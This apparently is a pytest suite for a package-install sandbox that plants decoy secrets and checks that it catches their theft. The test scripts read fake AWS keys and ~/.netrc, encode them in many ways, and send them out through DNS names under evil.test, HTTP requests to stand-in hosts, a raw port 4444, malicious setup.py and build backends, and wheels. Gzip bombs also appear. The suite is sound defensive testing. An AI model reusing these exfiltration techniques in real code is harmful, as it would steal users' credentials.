"""Decoys on their way out: in names, arguments of programs, plain connections, wheels, requirements and the project's folder, encoded in every way that is looked for.

Judged by what got through (the tests' resolver, the sinks, the environment), then by the record, which must not hold the decoy itself."""
from __future__ import annotations

import json

import pytest

from conftest import USERS
from lib import packages
from lib.index import Index

HOST, PUBLIC = "files.test", "203.0.113.10"
TOKEN = "AWS_SECRET_ACCESS_KEY"
# Of the program's first argument, the way, what the thief makes of a text; bytes.
ENCODE = r"""
import base64, gzip, json, os, urllib.parse, zlib
ways = {
    "plain": lambda s: s, "reversed": lambda s: s[::-1], "base64": base64.b64encode, "base64 url": base64.urlsafe_b64encode,
    "base64 +1": lambda s: base64.b64encode(b"k" + s), "base64 +2": lambda s: base64.b64encode(b"k=" + s), "base64 lines": base64.encodebytes,
    "base32": base64.b32encode, "hex": lambda s: s.hex().encode(), "hex capitals": lambda s: s.hex().upper().encode(),
    "url": lambda s: "".join("%%%02X" % c for c in s).encode(), "json": lambda s: "".join("\\u%04x" % c for c in s).encode(),
    "base64+reversed": lambda s: base64.b64encode(s[::-1]), "gzip": gzip.compress, "zlib": zlib.compress,
    "base64+gzip": lambda s: base64.b64encode(gzip.compress(s)), "hex+zlib": lambda s: zlib.compress(s).hex().encode(),
    "gzip+base64": lambda s: gzip.compress(base64.b64encode(s)),
}
"""
READ = 'decoy = os.environ.get("AWS_SECRET_ACCESS_KEY", "").encode()\n'
TEXTS = ("plain", "reversed", "base64", "base64 url", "base64 +1", "base64 +2", "base64 lines", "base32", "hex", "hex capitals", "url", "json", "base64+reversed", "base64+gzip",
         "hex+zlib")
BYTES = (*TEXTS, "gzip", "zlib", "gzip+base64")
NAMES = ("plain", "reversed", "base64 url", "base32", "hex", "hex capitals", "base64+reversed")
CREDENTIALS = ".aws/credentials"


def encoding(way):
    return way.split()[0]


def seen(result):
    return [e for e in result.of_type("decoy.seen") if "first" not in e]


def found(result):
    return {(e["decoy"].get("name") or e["decoy"].get("path"), e["decoy"]["encoding"], e["decoy"]["in"]) for e in seen(result)}


def check_silent(result, secrets):
    """The events say which decoy it was, and never what it was."""
    text = "".join(json.dumps(e) for e in seen(result)) + result.err
    assert secrets and not any(s and s in text for s in secrets), str(result)


@pytest.fixture(params=[*(("", u) for u in USERS), ("namespaces", "user")], ids=["root", "user", "namespaces-user"])
def world(request, make_world, user_named, net):
    net.clear()
    net.dns.addresses[HOST] = [PUBLIC]
    hide, name = request.param
    return make_world(user_named(name), net=net, hide=hide)


def guest(world, script, *options, env=None, argv=(), deny=True, read=READ):
    deny = ["--on-violation", "deny"] if deny else []
    return world.guarded([*deny, *options, "run", "--", "/usr/bin/python3", "-I", "-c", ENCODE + read + script, *argv],
                         {**world.plant_canaries(), **(env or {})}, timeout=90)


# --- names ---------------------------------------------------------------------------------------

# By libc and the shim, or by a datagram to the nameserver.
ASK = r"""
import socket, struct, sys
def ask(name):
    if sys.argv[1] == "libc":
        try:
            socket.getaddrinfo(name, 80)
        except OSError:
            pass
        return
    server = [line.split()[1] for line in open("/etc/resolv.conf") if line.startswith("nameserver")][0]
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.settimeout(5)
    s.sendto(struct.pack("!HHHHHH", 1, 256, 1, 0, 0, 0) + b"".join(bytes([len(l)]) + l.encode() for l in name.split(".")) + b"\0\0\x10\0\1", (server, 53))
    s.recv(999)
for way in sys.argv[2:]:
    text = ways[way](decoy).decode().rstrip("=\n").replace("/", "-").replace("+", "-")
    ask(".".join(text[i:i + 30] for i in range(0, len(text), 30)) + ".evil.test")
print(decoy.decode())
"""


@pytest.mark.parametrize("how", ["libc", "datagram"])
def test_in_names(how, world, net):
    how = "libc" if world.hide else how  # without a network namespace no datagram leaves
    for way in NAMES:
        result = guest(world, ASK, argv=[how, way])
        # Folded to one case base64 is as it is: plain letters may say as much.
        assert found(result) == {(TOKEN, encoding(way), "name")}, f"{way}\n{result}"
        event = seen(result)[0]
        assert event["severity"] == "critical" and event["action"] == "denied" and event["target"]["host"] == "*.evil.test", event
        check_silent(result, [result.out.strip()])
        assert f"left in a question for a name, {encoding(way)}: {TOKEN}, at *.evil.test" in result.err and result.status == 100, str(result)
    assert net.names() == [], net.names()


def test_a_name_ends_the_run(world, net):
    result = guest(world, ASK + "\nimport time\ntime.sleep(20)\nprint('went on')\n", argv=["libc", "base32"], deny=False)
    assert result.status == 100 and "went on" not in result.out, str(result)
    assert seen(result)[0]["action"] == "aborted" and result.end["verdict"] == "malicious", str(result)
    assert net.names() == []


def test_where_it_was_read(world, net):
    result = guest(world, ASK, argv=["libc", "hex"])
    event = seen(result)[0]
    reads = [e["seq"] for e in result.of_type("env.read") if e["target"]["name"] == TOKEN]
    assert event["decoy"]["read"] in reads, str(result)
    script = f"secret = open(os.path.expanduser('~/{CREDENTIALS}')).read().split()[-1]\ndecoy = secret.encode()\n" + ASK
    result = guest(world, script, argv=["libc", "base32"])
    event = seen(result)[0]
    assert event["decoy"]["path"] == "~/" + CREDENTIALS and "name" not in event["decoy"], str(result)
    assert [e["rule"] for e in result.events if e["seq"] == event["decoy"]["read"]] == ["decoy.read"], str(result)
    check_silent(result, [result.out.strip()])


# --- arguments -----------------------------------------------------------------------------------

RUN = r"""
import subprocess, sys
for way in sys.argv[1:]:
    subprocess.run(["/usr/bin/true", "--data=" + ways[way](decoy).decode()], check=True)
print(decoy.decode())
"""


def test_in_arguments(world):
    for way in TEXTS:
        result = guest(world, RUN, argv=[way])
        assert found(result) == {(TOKEN, encoding(way), "argv")}, f"{way}\n{result}"
        event = seen(result)[0]
        assert event["severity"] == "medium" and event["action"] == "observed" and event["target"]["path"].endswith("/true"), event
        check_silent(result, [result.out.strip()])
        assert result.status == 0 and result.end["verdict"] == "suspicious", str(result)


def test_the_environment_of_a_program_is_no_argument(world):
    result = guest(world, "import subprocess\nsubprocess.run(['/usr/bin/env', 'X=1', '/usr/bin/env'], check=True)\n")
    assert "AWS_SECRET_ACCESS_KEY=" in result.out and result.status == 0, str(result)
    assert seen(result) == [], str(result)


def test_a_shell_that_expands_it(world):
    result = guest(world, "import subprocess\nsubprocess.run('/usr/bin/printf %s $AWS_SECRET_ACCESS_KEY | /usr/bin/wc -c; /bin/echo \"$DATABASE_URL\"', shell=True, check=True)\n")
    assert found(result) == {(TOKEN, "plain", "argv"), ("DATABASE_URL", "plain", "argv")} and result.status == 0, str(result)


NO_SECRETS = {n: "" for n in ("AWS_ACCESS_KEY_ID", "AWS_SECRET_ACCESS_KEY", "DATABASE_URL")}
# Where no variable is secret nothing is looked at before a decoy file is read, by whatever way.
WAYS_IN = {
    "path": "text = open(home + '/.netrc').read()",
    "relative": "os.chdir(home); text = open('.netrc').read()",
    "both ways": "text = os.read(os.open(home + '/.netrc', os.O_RDWR), 999).decode()",
    "descriptor": "text = open('/proc/self/fd/%d' % os.open(home + '/.netrc', os.O_PATH)).read()",
    "moved": "os.listdir(home); os.stat(home + '/.netrc'); os.rename(home + '/.netrc', tmp + '/x'); text = open(tmp + '/x').read()",
    "linked": "os.link(home + '/.netrc', tmp + '/y'); text = open(tmp + '/y').read()",
    "another": "text = subprocess.check_output(['/bin/cat', home + '/.netrc'], text=True)",
}


@pytest.mark.parametrize("way", WAYS_IN)
def test_a_file_that_is_read_in_another_way(way, world):
    script = ("import subprocess, time\nhome, tmp = os.path.expanduser('~'), os.environ['TMPDIR']\n"
              "try:\n    open(home + '/.nothing')\nexcept OSError:\n    pass\n"  # the first look plants them
              f"time.sleep(0.1)\n{WAYS_IN[way]}\nsubprocess.run(['/usr/bin/true', base64.b64encode(text.split()[-1].encode())])\n")
    result = guest(world, script, env=NO_SECRETS, read="")
    assert found(result) == {("~/.netrc", "base64", "argv")} and result.status == 0, str(result)
    assert seen(result)[0]["decoy"].get("read") or way in ("moved", "linked"), str(result)


def test_in_an_address(world, net):
    script = ("import socket\nfor i in range(0, 32, 16):\n    s = socket.socket(socket.AF_INET6)\n    try:\n"
              "        s.connect((socket.inet_ntop(socket.AF_INET6, decoy[i:i + 16]), 443))\n    except OSError:\n        pass\n")
    result = guest(world, script)
    assert found(result) == {(TOKEN, "plain", "address")} and net.outside() == [] and result.status == 100, str(result)


# --- connections ---------------------------------------------------------------------------------

SEND = r"""
import socket, sys, time
def send(host, port, *pieces):
    try:
        s = socket.create_connection((host, port), 8)
        for piece in pieces:
            s.sendall(piece)
            time.sleep(0.05)
        s.shutdown(socket.SHUT_WR)
        return s.recv(100)[:12].decode("latin-1") or "closed"
    except OSError as e:
        return "lost"
def post(body, host="files.test", head=""):
    return [f"POST /x HTTP/1.1\r\nHost: {host}\r\n{head}Content-Length: {len(body)}\r\n\r\n".encode(), body]
how, way = sys.argv[1:]
text = ways[way](decoy)
if how == "body":
    got = send("files.test", 80, *post(b"data=" + text))
elif how == "segments":
    head, body = post(b"data=" + text)
    got = send("files.test", 80, head, *(body[i:i + 9] for i in range(0, len(body), 9)))
elif how == "chunks":
    got = send("files.test", 80, b"POST /x HTTP/1.1\r\nHost: files.test\r\nTransfer-Encoding: chunked\r\n\r\n" +
               b"".join(b"5\r\n" + (text + b"     ")[i:i + 5] + b"\r\n" for i in range(0, len(text), 5)) + b"0\r\n\r\n")
elif how == "head":
    got = send("files.test", 80, b"GET /x HTTP/1.1\r\nHost: files.test\r\nAuthorization: Bearer " + text + b"\r\n\r\n")
elif how == "path":
    got = send("files.test", 80, b"GET /" + text + b" HTTP/1.1\r\nHost: files.test\r\n\r\n")
elif how == "second":
    one, two = b"".join(post(b"first")), b"".join(post(b"data=" + text))
    got = send("files.test", 80, one + two)
elif how == "opaque":
    got = send("raw.test", 4444, b"hello ", text, b" bye")
print(got + " " + decoy.decode())
"""
OPAQUE = '{"version": 1, "network": {"guest": [{"host": "raw.test", "port": 4444, "opaque": true}]}}'
SENT = [*(("body", w) for w in BYTES), *(("head", w) for w in TEXTS if w != "base64 lines"), ("path", "plain"), ("path", "url"), ("segments", "plain"), ("segments", "base64"),
        ("segments", "gzip"), ("chunks", "plain"), ("chunks", "hex"), ("second", "plain"), ("second", "base64+gzip"), ("opaque", "plain"), ("opaque", "base64"), ("opaque", "gzip")]


def test_in_what_is_sent(world, net):
    policy = world.write(world.work / "policy.json", OPAQUE)
    net.dns.addresses["raw.test"] = [PUBLIC]
    plain = world.run(["/usr/bin/python3", "-I", "-c", ENCODE + READ + SEND, "body", "plain"], world.plant_canaries())
    assert plain.out.startswith("HTTP/1.1 200") and plain.out.split()[-1].encode() in net.sink.bytes, f"the baseline leaks nothing\n{plain}"
    for how, way in SENT:
        net.sink.clear()
        result = guest(world, SEND, "--allow-host", HOST, "--policy", policy, argv=[how, way])
        assert found(result) == {(TOKEN, encoding(way), "stream")}, f"{how}, {way}\n{result}"
        event = seen(result)[0]
        host = ("raw.test", 4444) if how == "opaque" else (HOST, 80)
        assert (event["target"]["host"], event["target"]["port"]) == host and event["severity"] == "critical" and result.status == 100, str(result)
        packed = "zlib" in way or "gzip" in way
        # What is packed is found at the end of a connection only if it came in several pieces.
        if event["action"] == "denied":
            assert not result.out.startswith("HTTP/1.1 200") or how == "second", f"{how}, {way}\n{result}"
            told = b"".join(data for _, data in net.sink.streams)
            assert result.out.split()[-1].encode() not in told, f"{how}, {way}\n{result}"
        else:
            assert event["action"] == "observed" and packed and how in ("segments", "opaque", "body"), f"{how}, {way}\n{result}"
        check_silent(result, [result.out.split()[-1]])


def test_a_build_that_sends_ends_the_run(world, net, base, templates, distribution):
    folder = base / "sends"
    packages.build_tools(folder)
    packages.sdist(folder, "pwsends", "1.0", {"setup.py": ENCODE + READ + "import sys\nsys.argv[1:], kept = ['body', 'base64'], sys.argv[1:]\n" + SEND +
                                              "sys.argv[1:] = kept\nfrom setuptools import setup\nsetup(name='pwsends', version='1.0')\n"})
    world.use_venv(templates, distribution)
    result = world.guarded(["--allow-host", "build:" + HOST, "pip", "install", "--no-index", "--find-links", folder, "--no-build-isolation", "pwsends"],
                           world.plant_canaries(), timeout=90)
    assert result.status == 100 and found(result) == {(TOKEN, "base64", "stream")}, str(result)
    event = seen(result)[0]
    assert event["action"] == "aborted" and event["package"]["name"] == "pwsends" and event["role"] == "build", str(result)
    # The head may have gone before: of the body nothing.
    assert not any(data.partition(b"\r\n\r\n")[2] for _, data in net.sink.streams) and not any(world.site_packages().glob("pwsends*")), str(result)


def test_to_whom_it_belongs(world, net):
    """The password of a URL may be told to the host of that URL, and to no other."""
    env = {"MIRROR_URL": "http://someone:Kq7aQw3Er9Ty2Ui5Op1A@files.test/simple"}
    net.dns.addresses["other.test"] = [PUBLIC]
    script = (SEND.split("how, way")[0] + "from urllib.parse import urlsplit\nurl = urlsplit(os.environ['MIRROR_URL'])\n"
              "login = b'Authorization: Basic ' + base64.b64encode(f'{url.username}:{url.password}'.encode()) + b'\\r\\n'\n"
              "print(send(sys.argv[1], 80, b'GET / HTTP/1.1\\r\\nHost: ' + sys.argv[1].encode() + b'\\r\\n' + login + b'\\r\\n'))\n")
    own = guest(world, script, "--allow-host", HOST, argv=[HOST], env=env)
    assert own.out.startswith("HTTP/1.1 200") and seen(own) == [] and own.status == 0, str(own)
    other = guest(world, script, "--allow-host", "other.test", argv=["other.test"], env=env)
    assert found(other) == {("MIRROR_URL", "base64", "stream")} and other.status == 100, str(other)


# --- what a build leaves -------------------------------------------------------------------------

BACKEND = ENCODE + "@READ@" + r"""
import os, zipfile
def _metadata(): return "Metadata-Version: 2.1\nName: pwleaves\nVersion: 1.0\n"
def get_requires_for_build_wheel(config_settings=None):
    return @REQUIRES@
def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
    info = "pwleaves-1.0.dist-info/"
    @LEAVE@
    with zipfile.ZipFile(os.path.join(wheel_directory, "pwleaves-1.0-py3-none-any.whl"), "w", zipfile.@COMPRESSION@) as z:
        z.writestr("pwleaves/__init__.py", "x = 1\n")
        z.writestr("pwleaves/data", @DATA@)
        z.writestr(info + "METADATA", _metadata())
        z.writestr(info + "WHEEL", "Wheel-Version: 1.0\nGenerator: own\nRoot-Is-Purelib: true\nTag: py3-none-any\n")
        z.writestr(info + "RECORD", "pwleaves/__init__.py,,\npwleaves/data,,\n%sMETADATA,,\n%sWHEEL,,\n%sRECORD,,\n" % (info, info, info))
    return "pwleaves-1.0-py3-none-any.whl"
"""
PYPROJECT = '[build-system]\nrequires = []\nbuild-backend = "own"\nbackend-path = ["backend"]\n[project]\nname = "pwleaves"\nversion = "1.0"\n'


def files(data="b''", compression="ZIP_DEFLATED", requires="[]", leave="pass", read=READ):
    backend = BACKEND.replace("@DATA@", data).replace("@COMPRESSION@", compression).replace("@REQUIRES@", requires).replace("@LEAVE@", leave).replace("@READ@", read)
    return {"pyproject.toml": PYPROJECT, "backend/own.py": backend}


@pytest.fixture(params=USERS)
def builder(request, make_world, user_named, templates, distribution):
    world = make_world(user_named(request.param))
    world.use_venv(templates, distribution)
    return world


def install(world, content, *options, env=None, deny=False):
    for name, text in content.items():
        world.write(world.work / "project" / name, text, 0o644)
    deny = ["--on-violation", "deny"] if deny else []
    return world.guarded([*deny, *options, "pip", "install", "--no-index", "--no-deps", world.work / "project"],
                         {**world.plant_canaries(), **(env or {})}, timeout=120)


@pytest.mark.parametrize("way", BYTES)
def test_in_a_wheel(way, builder):
    result = install(builder, files(f"os.urandom(9000) + b'\\n' + ways[{way!r}](decoy) + b'\\n'"))
    assert result.status == 100 and found(result) == {(TOKEN, encoding(way), "wheel")}, str(result)
    event = seen(result)[0]
    assert event["action"] == "aborted" and event["severity"] == "critical" and event["target"]["path"] == "pwleaves-1.0-py3-none-any.whl", str(result)
    assert not any(builder.site_packages().glob("pwleaves*")), str(result)
    assert "left in a wheel, " in result.err, str(result)


def test_a_wheel_is_not_installed_where_nothing_is_aborted(builder):
    result = install(builder, files("decoy", "ZIP_STORED"), deny=True)
    assert result.status == 100 and found(result) == {(TOKEN, "plain", "wheel")} and seen(result)[0]["action"] == "denied", str(result)
    assert not any(builder.site_packages().glob("pwleaves*")), str(result)


def test_a_file_of_the_home_in_a_wheel(builder):
    result = install(builder, files("open(os.path.expanduser('~/.netrc'), 'rb').read()"), env=NO_SECRETS)
    assert result.status == 100 and found(result) == {("~/.netrc", "plain", "wheel")}, str(result)
    read = [e for e in result.events if e.get("rule") == "decoy.read"]
    assert seen(result)[0]["decoy"]["read"] in [e["seq"] for e in read], str(result)


def test_in_what_pip_is_asked_for(builder):
    result = install(builder, files(requires="['evil @ https://files.test/' + ways['base64 url'](decoy).decode()]"))
    assert result.status == 100 and found(result) == {(TOKEN, "base64", "url")}, str(result)
    assert result.of_type("net.resolve", "net.connect") == [], str(result)


@pytest.mark.parametrize("way", ["plain", "base64", "gzip", "hex"])
def test_in_the_projects_folder(way, builder):
    content = files(leave=f"open('build.log', 'wb').write(b'log: ' + ways[{way!r}](decoy))")
    content["old.log"] = "what lay there"
    result = install(builder, content)
    assert found(result) == {(TOKEN, encoding(way), "source")}, str(result)
    event = seen(result)[0]
    assert event["severity"] == "medium" and event["action"] == "observed" and event["target"]["path"] == "build.log", str(result)
    assert result.status == 0 and any(builder.site_packages().glob("pwleaves*")), f"it is written down, and no more\n{result}"


# Of some kB each, 256 MiB and more when they are unpacked, as many as took two minutes; beside them what stands there plainly.
BOMBS = r"""
    bomb = gzip.compress(gzip.compress(bytes(1 << 20)) * @MIB@)
    for i in range(@N@):
        open("%03d.gz" % i, "wb").write(bomb)
    open("build.log", "wb").write(b"log: " + @LOG@)
"""


def unread(result):
    return [e for e in result.of_type("decoy.unread") if "first" not in e]


def bombs(n, log="b''", mebibytes=300):
    return BOMBS.strip().replace("@N@", str(n)).replace("@LOG@", log).replace("@MIB@", str(mebibytes))


def test_what_is_packed_has_one_bound(builder):
    """Plain bytes are looked at all the same, and that not all was unpacked is said, once."""
    result = install(builder, files(leave=bombs(250, "decoy")))
    assert result.seconds < 60, str(result)
    assert found(result) == {(TOKEN, "plain", "source")} and result.status == 0, str(result)
    # pip has it built for its metadata, and for the wheel.
    assert [(e["severity"], e["action"], e["package"]["name"], e["target"]["path"][-3:]) for e in unread(result)] == 2 * [("low", "observed", "pwleaves", ".gz")], str(result)
    assert any(builder.site_packages().glob("pwleaves*")), str(result)


def test_a_wheel_is_looked_into_before_the_folder(builder):
    result = install(builder, files("ways['base64'](decoy)", leave=bombs(20)))
    assert result.status == 100 and found(result) == {(TOKEN, "base64", "wheel")}, str(result)
    assert not any(builder.site_packages().glob("pwleaves*")), str(result)


@pytest.mark.parametrize("n,mebibytes,told", [(3, 200, False), (1, 300, True), (7, 200, True)], ids=["within", "a file", "all"])
def test_a_build_that_is_not_looked_into_may_be_refused(n, mebibytes, told, builder):
    policy = builder.write(builder.work / "policy.json", '{"version": 1, "actions": {"decoy.unread": "deny"}}')
    result = install(builder, files(leave=bombs(n, mebibytes=mebibytes)), "--policy", policy)
    assert (result.status != 0) == told and len(unread(result)) == told, str(result)
    assert any(builder.site_packages().glob("pwleaves*")) != told, str(result)


# --- honest --------------------------------------------------------------------------------------

HONEST_DATA = "os.urandom(300000) + base64.b64encode(os.urandom(300000)) + b'-----BEGIN OPENSSH PRIVATE KEY-----\\nb3BlbnNzaC1rZXktdjEAAAAABG5vbmUAAAAEbm9uZQ==' + gzip.compress(os.urandom(9999))"


def test_honest_builds_leave_nothing(builder):
    """Random and encoded data, an environment that is printed, and looked through, and written where nobody keeps it."""
    leave = "print(dict(os.environ)); open(os.path.join(os.environ['TMPDIR'], 'log'), 'w').write(str(dict(os.environ))); open('made.bin', 'wb').write(os.urandom(99999))"
    result = install(builder, files(HONEST_DATA, leave=leave, read=""), "-v")
    assert result.status == 0 and seen(result) == [] and result.above("info") == [], str(result)


def test_honest_traffic(world, net):
    script = SEND.split("how, way")[0] + "print(send('files.test', 80, *post(os.urandom(100000) + base64.b64encode(os.urandom(100000)) + gzip.compress(os.urandom(9999)))))\n"
    result = guest(world, script, "--allow-host", HOST, read="")
    assert result.out.startswith("HTTP/1.1 200") and result.above("info") == [] and result.status == 0, str(result)


def test_more_than_is_looked_at_goes_through(world, net):
    """Of a connection the first MiB; what follows is carried all the same."""
    script = SEND.split("how, way")[0] + "print(send('files.test', 80, *post(b'x' * 3000000)))\n"
    result = guest(world, script, "--allow-host", HOST)
    assert result.out.startswith("HTTP/1.1 200") and sum(len(d) for _, d in net.sink.streams) > 3000000 and result.status == 0, str(result)


def test_nothing_is_looked_for_under_audit(builder):
    result = install(builder, files("decoy"), "--audit")
    assert seen(result) == [] and result.status == 0, str(result)
